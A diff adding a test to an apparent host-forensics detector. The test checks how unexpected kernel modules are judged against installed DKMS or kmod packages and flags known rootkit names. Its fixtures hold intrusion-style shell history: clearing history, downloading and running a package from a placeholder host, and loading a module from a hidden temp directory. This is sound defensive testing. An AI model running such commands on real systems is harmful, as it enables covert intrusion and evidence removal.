@@ -116,3 +116,21 @@ test("history tampering shows what the same history ran just before it", async (
   t.match(hit?.summary, /the 4 commands before it are in the evidence/);
   t.same(hit?.evidence.map((e) => e.row.command), ["history -c", "ls", "curl -o ia.tgz http://x/ia.tgz", "cd intel_audio", "./setup.sh install"]);
 });
+
+test("a kernel module an installed DKMS or kmod package builds is a note; the same name without its package is a finding", async (t) => {
+  const mod = (name: string) => ({ name, size: "16384", used_by: "-", status: "Live", address: "0xffffffffc0a00000" });
+  const lime = { kernel_modules: [mod("lime")] };
+  t.ok(findings("unexpected-kernel-module", host(lime)).length > 0, "LiME loaded with no package that builds it");
+  const forensics = host({ ...lime, deb_packages: [{ name: "lime-forensics-dkms", version: "1.9.1-6", arch: "all" }] });
+  t.same(findings("unexpected-kernel-module", forensics), [], "lime-forensics-dkms builds lime");
+  t.equal(hits("unexpected-kernel-module", forensics)[0]?.kept_by, "kmod:dkms-package");
+  t.match(hits("unexpected-kernel-module", forensics)[0]?.summary ?? "", /lime-forensics-dkms 1\.9\.1-6/);
+  t.same(findings("unexpected-kernel-module", host({ kernel_modules: [mod("v4l2loopback")], deb_packages: [{ name: "v4l2loopback-dkms", version: "0.12.7-2" }] })), []);
+  t.same(findings("unexpected-kernel-module", host({ kernel_modules: [mod("wireguard_x")], rpm_packages: [{ name: "kmod-wireguard-x", version: "1.0" }] })), [], "RHEL's kmod-<module>, dashes for underscores");
+  t.ok(findings("unexpected-kernel-module", host({ kernel_modules: [mod("lime")], deb_packages: [{ name: "limesurvey-dkms", version: "1" }] })).length > 0, "another name that starts alike");
+  t.ok(findings("unexpected-kernel-module", host({ kernel_modules: [mod("lime")], deb_packages: [{ name: "lime-forensics", version: "1" }] })).length > 0, "not a DKMS package");
+  const rootkit = hits("unexpected-kernel-module", host({ kernel_modules: [mod("diamorphine")], deb_packages: [{ name: "diamorphine-dkms", version: "1" }] }));
+  t.ok(rootkit.some((x) => x.kept_by === undefined && x.severity === "high"), "a known rootkit's name stays high whatever package claims it");
+  const traces = findings("unexpected-kernel-module", host({ ...lime, deb_packages: [{ name: "lime-forensics-dkms", version: "1.9.1-6" }], shell_history: [{ uid: "0", command: "insmod /dev/shm/.m/lime.ko", history_file: "/root/.bash_history" }] }));
+  t.ok(traces.length > 0, "a module loaded from a temp directory by hand still leaves a finding");
+});
